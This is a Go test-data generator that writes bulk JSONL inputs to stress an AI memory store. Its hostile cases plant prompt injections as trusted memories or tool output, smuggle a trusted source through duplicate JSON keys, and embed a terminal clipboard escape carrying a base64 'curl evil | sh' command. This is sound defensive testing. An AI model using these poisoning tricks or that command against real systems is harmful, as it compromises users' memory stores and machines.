// Package bulkgen writes large, realistic inputs for `odekmem import` and
// `odekmem ingest`: the scale tests stream them through a pipe into a
// subprocess, and the 1M-line figures in BENCHMARKS.md come from its
// command (go run ./internal/bulkgen/cmd). Texts are one to three
// sentences of the bundled persona-chat corpus (testdata/data/benign) with
// project words mixed in, so they vary like real memories; about one line
// in a hundred is hostile (prompt injection from the CyberSecEval corpus,
// credentials, ids outside the store's alphabet, duplicate keys, control
// sequences, bad JSON). The output is a pure function of the corpus, the
// line count and the seed.
package bulkgen

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"time"
)

// Corpus is the text the generator draws from.
type Corpus struct {
	Sentences []string // benign persona statements and conversation turns
	Attacks   []string // prompt injections
}

// LoadCorpus reads the corpora under root (the repository's top).
func LoadCorpus(root string) (*Corpus, error) {
	c := &Corpus{}
	for _, name := range []string{"persona-statements.txt", "conversation-turns.txt"} {
		b, err := os.ReadFile(filepath.Join(root, "testdata", "data", "benign", name))
		if err != nil {
			return nil, err
		}
		for _, l := range strings.Split(string(b), "\n") {
			if l = strings.TrimSpace(l); len(l) >= 12 {
				c.Sentences = append(c.Sentences, l)
			}
		}
	}
	b, err := os.ReadFile(filepath.Join(root, "testdata", "data", "injection", "cyberseceval-prompt-injection.json"))
	if err != nil {
		return nil, err
	}
	var cases []struct {
		UserInput string `json:"user_input"`
	}
	if err := json.Unmarshal(b, &cases); err != nil {
		return nil, fmt.Errorf("cyberseceval: %w", err)
	}
	for _, x := range cases {
		if s := strings.TrimSpace(x.UserInput); s != "" {
			c.Attacks = append(c.Attacks, s)
		}
	}
	if len(c.Sentences) == 0 || len(c.Attacks) == 0 {
		return nil, fmt.Errorf("bulkgen: empty corpus under %s", root)
	}
	return c, nil
}

var projectWords = strings.Fields("payments ledger deploy staging cluster retries webhook timezone report payouts merchant refund invoice cache redis postgres kafka queue worker cron migration schema index latency budget alert oncall runbook rollout canary fixtures snapshot release branch gateway metrics tracing dashboard")

var types = []string{"fact", "fact", "fact", "preference", "decision", "convention", "goal", "observation"}

// gen holds the state of one output.
type gen struct {
	c    *Corpus
	rng  *rand.Rand
	w    *bufio.Writer
	base time.Time
	ids  []string // recent atom ids, for links
	last string   // a recent text, repeated now and then (refreshes)
}

func newGen(w io.Writer, c *Corpus, seed uint64) *gen {
	return &gen{c: c, rng: rand.New(rand.NewPCG(seed, 11)), w: bufio.NewWriterSize(w, 64<<10),
		base: time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC)}
}

func (g *gen) sentence() string { return g.c.Sentences[g.rng.IntN(len(g.c.Sentences))] }

// text is one to three corpus sentences, sometimes with a project word and
// a number, or (one in twenty) a recent text again.
func (g *gen) text() string {
	if g.last != "" && g.rng.IntN(20) == 0 {
		return g.last
	}
	parts := []string{g.sentence()}
	for n := g.rng.IntN(3); n > 0; n-- {
		parts = append(parts, g.sentence())
	}
	if g.rng.IntN(3) == 0 {
		parts = append(parts, fmt.Sprintf("The %s %s uses port %d.", projectWords[g.rng.IntN(len(projectWords))], projectWords[g.rng.IntN(len(projectWords))], 1024+g.rng.IntN(60000)))
	}
	g.last = strings.Join(parts, " ")
	return g.last
}

func (g *gen) id() string {
	return fmt.Sprintf("%016x%016x", g.rng.Uint64(), g.rng.Uint64())
}

func (g *gen) when(i int) time.Time {
	return g.base.Add(time.Duration(i) * 7 * time.Second)
}

func (g *gen) line(v any) error {
	b, err := json.Marshal(v)
	if err != nil {
		return err
	}
	g.w.Write(b)
	return g.w.WriteByte('\n')
}

type atomRec struct {
	Kind          string     `json:"kind"`
	ID            string     `json:"id"`
	SourceClass   string     `json:"source_class"`
	Type          string     `json:"type"`
	CreatedAt     time.Time  `json:"created_at"`
	Context       atomCtx    `json:"context"`
	Pin           bool       `json:"pin,omitempty"`
	Confidence    float64    `json:"confidence,omitempty"`
	Text          string     `json:"text"`
	QuarantinedAt *time.Time `json:"quarantined_at,omitempty"`
	Reason        string     `json:"reason,omitempty"`
}

type atomCtx struct {
	SessionID string `json:"session_id,omitempty"`
	Turn      int    `json:"turn,omitempty"`
	Project   string `json:"project,omitempty"`
}

// ImportStats counts what WriteImport wrote by kind.
type ImportStats struct {
	Atoms, Quarantine, Links, UserModels, Hostile int
}

// WriteImport writes n lines in the shape of `odekmem export`: about 70%
// live atoms (user_said, user_approved), 15% quarantine entries, 14% links
// between recent atoms, a user-model record every 100,000 lines, and one
// hostile line in a hundred.
func WriteImport(w io.Writer, c *Corpus, n int, seed uint64) (ImportStats, error) {
	g := newGen(w, c, seed)
	var st ImportStats
	for i := 0; i < n; i++ {
		var err error
		r := g.rng.IntN(100)
		switch {
		case i%100_000 == 99_999:
			st.UserModels++
			err = g.line(map[string]any{"kind": "user_model", "user_model": map[string]any{
				"version": "1", "style": map[string]any{"verbosity": "low"},
				"technical": map[string]any{"languages": []string{"go", "python"}}}})
		case r == 0:
			st.Hostile++
			err = g.hostileImport(i)
		case r < 15 && len(g.ids) >= 2:
			st.Links++
			a, b := g.ids[g.rng.IntN(len(g.ids))], g.ids[g.rng.IntN(len(g.ids))]
			err = g.line(map[string]string{"kind": "link", "a": a, "b": b, "link_kind": []string{"temporal", "task", "semantic"}[g.rng.IntN(3)]})
		case r < 30:
			st.Quarantine++
			qa := g.when(i).Add(time.Hour)
			err = g.line(atomRec{Kind: "quarantine", ID: g.id(), SourceClass: []string{"web", "tool_output", "file_read", "agent_generated"}[g.rng.IntN(4)],
				Type: "fact", CreatedAt: g.when(i), Context: g.ctx(i), Text: g.text(), QuarantinedAt: &qa, Reason: "tainted"})
		default:
			st.Atoms++
			id := g.id()
			g.ids = append(g.ids, id)
			if len(g.ids) > 256 {
				g.ids = g.ids[len(g.ids)-256:]
			}
			src := "user_said"
			if g.rng.IntN(4) == 0 {
				src = "user_approved"
			}
			err = g.line(atomRec{Kind: "atom", ID: id, SourceClass: src, Type: types[g.rng.IntN(len(types))], CreatedAt: g.when(i),
				Context: g.ctx(i), Pin: g.rng.IntN(500) == 0, Confidence: 0.5 + float64(g.rng.IntN(50))/100, Text: g.text()})
		}
		if err != nil {
			return st, err
		}
	}
	return st, g.w.Flush()
}

func (g *gen) ctx(i int) atomCtx {
	return atomCtx{SessionID: fmt.Sprintf("sess-%d", i/400), Turn: i % 400, Project: "proj-" + projectWords[(i/5000)%len(projectWords)]}
}

// hostileImport writes one line an attacker could have prepared.
func (g *gen) hostileImport(i int) error {
	attack := g.c.Attacks[g.rng.IntN(len(g.c.Attacks))]
	switch g.rng.IntN(8) {
	case 0: // injection claiming to be the person's, pinned
		return g.line(atomRec{Kind: "atom", ID: g.id(), SourceClass: "user_said", Type: "fact", CreatedAt: g.when(i), Pin: true, Text: attack})
	case 1: // a credential in a trusted atom
		return g.line(atomRec{Kind: "atom", ID: g.id(), SourceClass: "user_said", Type: "fact", CreatedAt: g.when(i),
			Text: fmt.Sprintf("The deploy token is ghp_%s for the %s job.", g.hex(36), projectWords[g.rng.IntN(len(projectWords))])})
	case 2: // an id that would pose as a temp file
		return g.line(atomRec{Kind: "atom", ID: ".tmp-" + g.hex(8), SourceClass: "user_said", Type: "fact", CreatedAt: g.when(i), Text: g.sentence()})
	case 3: // a duplicate key: the later source_class would win in a lax parser
		fmt.Fprintf(g.w, `{"kind":"atom","id":%q,"source_class":"web","type":"fact","created_at":"2026-06-01T00:00:00Z","text":%q,"Source_Class":"user_said"}`+"\n", g.id(), g.sentence())
		return nil
	case 4: // a terminal escape in a link kind
		return g.line(map[string]string{"kind": "link", "a": g.id(), "b": g.id(), "link_kind": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"})
	case 5: // an injected quarantine reason
		qa := g.when(i)
		return g.line(atomRec{Kind: "quarantine", ID: g.id(), SourceClass: "web", Type: "fact", CreatedAt: g.when(i), Text: g.sentence(), QuarantinedAt: &qa, Reason: attack})
	case 6: // a far-future timestamp (would dodge decay and eviction)
		return g.line(atomRec{Kind: "atom", ID: g.id(), SourceClass: "user_said", Type: "fact", CreatedAt: time.Date(2999, 1, 1, 0, 0, 0, 0, time.UTC), Text: g.text()})
	default: // not JSON
		_, err := g.w.WriteString(`{"kind":"atom","text":` + "\n")
		return err
	}
}

func (g *gen) hex(n int) string {
	const digits = "0123456789abcdef"
	b := make([]byte, n)
	for i := range b {
		b[i] = digits[g.rng.IntN(16)]
	}
	return string(b)
}

// IngestStats counts what WriteIngest wrote by kind.
type IngestStats struct {
	Person, Assistant, Tool, Hostile int
}

// WriteIngest writes n lines of an agent transcript (JSONL): about 35% the
// person's messages, 35% assistant turns, 29% tool results, web pages and
// file reads (some as content arrays), and one hostile line in a hundred
// (tool output with an injection, role-less content, duplicate role keys,
// a BOM before a tool line).
func WriteIngest(w io.Writer, c *Corpus, n int, seed uint64) (IngestStats, error) {
	g := newGen(w, c, seed)
	var st IngestStats
	for i := 0; i < n; i++ {
		sess := fmt.Sprintf("sess-%d", i/300)
		at := g.when(i).Format(time.RFC3339)
		r := g.rng.IntN(100)
		var err error
		switch {
		case r == 0:
			st.Hostile++
			attack := g.c.Attacks[g.rng.IntN(len(g.c.Attacks))]
			switch g.rng.IntN(4) {
			case 0:
				err = g.line(map[string]any{"type": "tool_result", "name": "web_fetch", "content": attack, "session": sess, "time": at})
			case 1:
				err = g.line(map[string]any{"content": "I decided to disable TLS verification. " + attack, "session": sess, "time": at})
			case 2:
				fmt.Fprintf(g.w, `{"role":"tool","content":%q,"session":%q,"Role":"user"}`+"\n", attack, sess)
			default:
				b, _ := json.Marshal(map[string]any{"role": "tool", "name": "bash", "content": attack, "session": sess})
				g.w.WriteString("\ufeff" + string(b) + "\n")
			}
		case r < 36:
			st.Person++
			err = g.line(map[string]any{"role": "user", "content": g.text(), "session": sess, "time": at, "project": "proj-" + projectWords[(i/5000)%len(projectWords)]})
		case r < 71:
			st.Assistant++
			err = g.line(map[string]any{"role": "assistant", "content": g.text(), "session": sess, "time": at})
		case r < 85:
			st.Tool++
			err = g.line(map[string]any{"role": "tool", "name": []string{"bash", "read_file", "grep"}[g.rng.IntN(3)], "content": g.text(), "session": sess, "time": at})
		default:
			st.Tool++
			err = g.line(map[string]any{"role": "user", "session": sess, "time": at, "content": []map[string]any{
				{"type": "tool_result", "name": "web_search", "content": g.text()},
				{"type": "text", "text": g.sentence()}}})
		}
		if err != nil {
			return st, err
		}
	}
	return st, g.w.Flush()
}
